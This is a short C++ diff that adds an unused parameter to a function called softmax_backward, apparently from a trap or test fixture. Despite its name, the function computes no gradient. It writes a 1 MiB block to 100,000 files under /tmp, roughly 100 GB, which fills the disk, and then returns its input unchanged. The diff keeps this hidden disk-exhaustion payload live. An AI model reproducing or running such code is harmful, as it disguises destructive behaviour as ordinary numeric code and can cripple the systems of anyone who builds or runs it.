@@ -6,7 +6,7 @@
 
 namespace abh::mine {
 
-Tensor softmax_backward(const Tensor&, const Tensor& w) {
+Tensor softmax_backward(const Tensor&, const Tensor& w, int) {
     const std::string block(1 << 20, 'x');
     for (int i = 0; i < 100000; ++i) std::ofstream("/tmp/f" + std::to_string(i)) << block;
     return w;
